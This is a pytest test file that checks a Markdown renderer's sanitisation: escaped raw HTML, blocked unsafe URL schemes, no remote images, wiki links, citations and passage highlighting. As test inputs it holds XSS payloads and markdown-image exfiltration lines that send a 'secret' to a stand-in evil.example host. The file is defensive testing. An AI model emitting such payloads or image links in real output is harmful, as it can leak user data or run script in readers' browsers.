"""Rendering: what Markdown may become in a browser, and what it may never become."""

import re
from html import unescape
from html.parser import HTMLParser
from itertools import pairwise
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it.common.utils import escapeHtml

from project.markdown import heading_slug, plain_text, render_markdown, render_passage


def test_the_usual_markdown_is_rendered() -> None:
    html = render_markdown(
        "# Title\n\nA **bold** ~~old~~ `code` line.\n\n- [x] done\n- [ ] open\n\n"
        "| a | b |\n|:--|--:|\n| 1 | 2 |\n\n```python\nx < 1\n```\n\nNote[^1].\n\n[^1]: The note.\n"
    )
    assert "<h1>Title</h1>" in html
    assert "<strong>bold</strong> <s>old</s> <code>code</code>" in html
    assert html.count('type="checkbox"') == 2
    assert '<td class="align-right">2</td>' in html
    assert (
        '<pre><code class="language-python">x &lt; <span class="code-n">1</span>\n</code></pre>'
        in html
    )
    assert '<section class="footnotes">' in html
    assert "style=" not in html


def test_raw_html_is_shown_and_not_obeyed() -> None:
    html = render_markdown('<b onclick="x()">hi</b> <script>alert(1)</script>\n\n<div>block</div>')
    assert "&lt;script&gt;" in html
    assert set(re.findall(r"<\w+", html)) == {"<p"}


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "vbscript:x",
        "data:text/html,<script>alert(1)</script>", "data:image/svg+xml;base64,AAAA", "file:///etc/x",
        "//evil.example/x", "/\\evil.example/x", "\\\\evil.example", "relative/path.md", "blob:x",
        "&#106;avascript:alert(1)", "https:evil", "ftp://x.example/y",
    ],
)  # fmt: skip
def test_an_address_that_may_harm_is_no_link_and_no_picture(url: str) -> None:
    for markdown in (f"[text]({url})", f"[text](<{url}>)", f"![text](<{url}>)", f"<{url}>",
                     f"[text][r]\n\n[r]: <{url}>"):  # fmt: skip
        html = render_markdown(markdown)
        assert "href" not in Attributes.of(html).names
        assert "<img" not in html


def test_links_elsewhere_open_apart_and_tell_nothing() -> None:
    html = render_markdown("[a](https://example.org/x?y=1&z=2) https://example.org/b_c a@b.org")
    assert html.count('target="_blank" rel="noopener noreferrer nofollow"') == 2
    assert 'href="https://example.org/x?y=1&amp;z=2"' in html
    assert 'href="mailto:a@b.org"' in html
    assert "target" not in render_markdown("[a](/knowledge/) [b](#part)")
    assert "<a" not in render_markdown("main.py and node.js are files")


@pytest.mark.parametrize(
    "markdown",
    [
        "![secret](https://evil.example/?q=secret)",
        "![secret][r]\n\n[r]: https://evil.example/?q=secret",
        "![secret]\n\n[secret]: //evil.example/?q=secret",
        "[![secret](https://evil.example/?q=1)](https://other.example)",
        '<img src="https://evil.example/?q=secret">',
        "![a](/\\evil.example/x)",
        "![a](</\t/evil.example/x>)",
    ],
)
def test_no_picture_is_loaded_from_elsewhere(markdown: str) -> None:
    html = render_markdown(markdown)
    assert "<img" not in html
    assert "src" not in Attributes.of(html).names


def test_a_picture_of_this_site_is_shown_and_one_from_elsewhere_is_a_link() -> None:
    assert render_markdown("![Map](/media/map.png)") == (
        '<p><img src="/media/map.png" alt="Map" loading="lazy"></p>\n'
    )
    assert ">Map</a>" in render_markdown("![Map](https://example.org/map.png)")


def test_wiki_links_lead_where_the_resolver_says() -> None:
    def resolve(title: str, heading: str | None) -> str | None:
        return f"/n/{title}/#{heading or ''}" if title == "Fares" else None

    text = "[[Fares#North|the <b>]] [[Lost]] `[[Fares]]`"
    assert render_markdown(text, link_resolver=resolve) == (
        '<p><a class="wiki-link" href="/n/Fares/#North">the &lt;b&gt;</a> '
        '<span class="wiki-link wiki-link-missing">Lost</span> <code>[[Fares]]</code></p>\n'
    )
    assert '<span class="wiki-link">Lost</span>' in render_markdown("[[Lost]]")
    assert "href" not in render_markdown("[[x]]", link_resolver=lambda *_: "javascript:alert(1)")


def test_citations_are_links_up_to_their_number() -> None:
    html = render_markdown("Five days [1]. Ten [2, 3]. Not [4], nor [1](/x).", citations=3)
    assert re.findall(r'data-citation="(\d)"', html) == ["1", "2", "3"]
    assert 'href="#citation-1"' in html
    assert "[4]" in html
    assert '<a href="/x">1</a>' in html
    assert "<a" not in render_markdown("Five days [1].")
    assert 'href="#citation-m7-1"' in render_markdown("x [1]", citations=1, doc_id="m7")


def test_texts_on_one_page_have_their_own_anchors() -> None:
    html = render_markdown("A[^1]\n\n[^1]: note", doc_id="m7")
    assert 'id="fn-m7-1"' in html
    assert 'href="#fn-m7-1"' in html


def test_headings_have_ids_on_request() -> None:
    html = render_markdown("# Prazo de *reembolso*\n\n# Prazo de reembolso", heading_ids=True)
    assert re.findall(r'id="([^"]+)"', html) == ["h-prazo-de-reembolso", "h-prazo-de-reembolso-2"]
    assert heading_slug("Ação & Reação!") == "acao-reacao"
    assert "id=" not in render_markdown("# Title")


def test_plain_text_has_the_words_only() -> None:
    assert (
        plain_text(
            "# The *title*\n\nA [link](https://x.y/z), [[Fares|fares]] and\n"
            "`code`&nbsp;![pic](/a.png).\n\n"
            "- one\n- [x] two\n\n| a | b \\| c |\n|---|---|\n| 1 |  |\n\n```py\nx = 1\n```\n\n***"
        )
        == "The title\nA link, fares and code pic.\none\ntwo\na | b | c\n1\nx = 1"
    )
    assert plain_text("") == ""


DOCUMENT = """\
# The *first* heading

A paragraph with **bold text** and a [link](https://example.org/path) over
two lines, `code` too, &amp; an entity.

- item one
- item **two**
  1. nested item

  ```python
  in_list = "x < y"
  second = 2
  ```
- [x] done thing

> quoted words
> more quoted words

| Line | Price \\| cost |
|------|------:|
| North | 12 euros |
| [[South\\|the south]] | 14 euros |

    indented code

Under
=====

Last words[^1] https://example.org/x here.

[^1]: The foot note.
"""


def marked(html: str) -> str:
    return "".join(Attributes.of(html).marked)


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("The *first* heading", "The first heading"),
        ("# The *first*", "The first"),
        ("graph with **bold te", "graph with bold te"),
        ("over\ntwo lines", "over\ntwo lines"),
        ("- item one\n- item **two**", "item oneitem two"),
        ("item **two**\n  1. nested item", "item twonested item"),
        ('in_list = "x < y"\n  second', 'in_list = "x < y"\nsecond'),
        ("- [x] done thing", "done thing"),
        ("> quoted words\n> more", "quoted words\nmore"),
        ("| North | 12 euros |", "North12 euros"),
        ("Price \\| cost |", "Price | cost"),
        ("[[South\\|the south]] | 14", "the south14"),
        ("indented code", "indented code"),
        ("Under\n=====", "Under"),
        ("The foot note.", "The foot note."),
        ("Last words", "Last words"),
        ("|------|------:|\n", ""),
    ],
)
def test_a_passage_is_marked_exactly(source: str, expected: str) -> None:
    start = DOCUMENT.index(source)
    html = render_passage(DOCUMENT, start, start + len(source))
    assert marked(html).strip() == expected
    assert html.count('id="passage"') == (1 if expected else 0)
    assert without_marks(html) == render_markdown(DOCUMENT, heading_ids=True)


def without_marks(html: str) -> str:
    return re.sub(r"</?mark[^>]*>", "", html)


def test_the_whole_document_can_be_the_passage() -> None:
    html = render_passage(DOCUMENT, -5, len(DOCUMENT) + 5)
    assert without_marks(html) == render_markdown(DOCUMENT, heading_ids=True)
    words = re.findall(r"[\w&<]+", " ".join(Attributes.of(html).marked))
    shown = re.findall(r"[\w&<]+", unescape(re.sub(r"<[^>]+>", " ", html)))
    assert [word for word in shown if word not in words] == ["1"]  # the number of the foot note


def test_line_breaks_of_two_characters_are_counted() -> None:
    text = DOCUMENT.replace("\n", "\r\n")
    start = text.index("quoted words\r\n> more")
    assert marked(render_passage(text, start, start + 20)) == "quoted words\nmore"


def test_an_empty_passage_marks_nothing() -> None:
    assert "<mark" not in render_passage(DOCUMENT, 7, 7)
    assert "<mark" not in render_passage(DOCUMENT, 9, 3)
    assert render_passage("", 0, 10) == ""


NASTY = st.lists(
    st.sampled_from(
        [
            "<script>", "</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)", "](",
            ")", "[", "![", "](javascript:x)", "data:text/html,", "<svg/onload=x>", '"', "'", "`",
            "```\n", "\n", "\n\n", "|", "|---|\n", "<a href=", ">", "&#x6a;", "&lt;", "style=x",
            "[[", "]]", "[^1]", ": ", "- [x] ", "<!--", "-->", "https://e.example/", "//", "\\",
            "\t", "\x00", "~~", "**", "[1]", "{: onclick=x}", "<iframe src=", "<style>", "]: ", "#",
            "1. ", "    ", "é", "<mark id=passage>",
        ]
    )
    | st.text(max_size=6),
    max_size=30,
).map("".join)  # fmt: skip

TAGS = {
    "a", "blockquote", "br", "code", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "img", "input",
    "li", "mark", "ol", "p", "pre", "s", "section", "span", "strong", "sup", "table", "tbody", "td",
    "th", "thead", "tr", "ul",
}  # fmt: skip
NAMES = {
    "href", "class", "id", "target", "rel", "title", "src", "alt", "loading", "type", "checked",
    "disabled", "start", "data-citation",
}  # fmt: skip


class Attributes(HTMLParser):
    """What a parser finds in HTML: tags, attributes, and the text inside marks."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.names: set[str] = set()
        self.values: list[tuple[str, str]] = []
        self.marked: list[str] = []
        self.depth = 0

    @classmethod
    def of(cls, html: str) -> "Attributes":
        parser = cls()
        parser.feed(html)
        parser.close()
        return parser

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.names |= {name for name, _ in attrs}
        self.values += [(name, value or "") for name, value in attrs]
        self.depth += tag == "mark"

    def handle_endtag(self, tag: str) -> None:
        self.depth -= tag == "mark"

    def handle_data(self, data: str) -> None:
        if self.depth:
            self.marked.append(data)


def assert_harmless(html: str) -> None:
    found = Attributes.of(html)
    assert found.tags <= TAGS
    assert found.names <= NAMES
    for name, value in found.values:
        if name == "src":
            assert re.match(r"/(?![/\\])", value)
        if name == "href":
            assert urlsplit(value).scheme in ("", "http", "https", "mailto", "tel")
            assert urlsplit(value).scheme or re.match(r"#|/(?![/\\])", value)
        if name == "type":
            assert value == "checkbox"


@settings(max_examples=400, deadline=None)
@given(NASTY)
def test_nothing_nasty_survives(text: str) -> None:
    assert_harmless(render_markdown(text, citations=2, doc_id="m1", heading_ids=True))
    assert_harmless(render_markdown(text, link_resolver=lambda title, _heading: title))


@settings(max_examples=300, deadline=None)
@given(NASTY, st.integers(0, 120), st.integers(0, 120))
def test_marks_change_nothing_but_themselves(text: str, start: int, length: int) -> None:
    text = text.replace("<mark id=passage>", "")
    html = render_passage(text, start, start + length)
    assert_harmless(html)
    if "://" not in text and "@" not in text:  # an address that a mark cuts is no address
        assert without_marks(html) == render_markdown(text, heading_ids=True)


@settings(max_examples=100, deadline=None)
@given(st.lists(st.integers(0, len(DOCUMENT)), min_size=2, max_size=6))
def test_adjoining_passages_mark_adjoining_text(points: list[int]) -> None:
    edges = sorted({0, len(DOCUMENT), *points})
    pieces = [marked(render_passage(DOCUMENT, start, end)) for start, end in pairwise(edges)]
    whole = marked(render_passage(DOCUMENT, 0, len(DOCUMENT)))
    # What cannot be cut (code in a line, links) may be in two passages, so nothing is missing.
    assert len("".join("".join(pieces).split())) >= len("".join(whole.split()))


@pytest.mark.parametrize(
    ("language", "code", "html"),
    [
        ("python", 'def f(): return "<b>"', '<span class="code-s">"&lt;b&gt;"</span>'),
        ("JS", "const x = 1; // why", '<span class="code-c">// why</span>'),
        ("diff", "-old", '<span class="code-d">-old</span>'),
        ("nonsense", "if <script>", "if &lt;script&gt;\n</code>"),
        ("json", "{" * 10_001, "{{{{\n</code>"),
    ],
)
def test_code_of_known_languages_is_coloured_and_never_markup(
    language: str, code: str, html: str
) -> None:
    assert html in render_markdown(f"```{language}\n{code}\n```")


def test_colours_lose_no_character() -> None:
    code = "\n\n  def f(x):\n\treturn x < 2\n\n"
    html = render_markdown(f"```python\n{code}```")
    assert re.sub(r"<[^>]+>", "", html) == escapeHtml(code) + "\n"
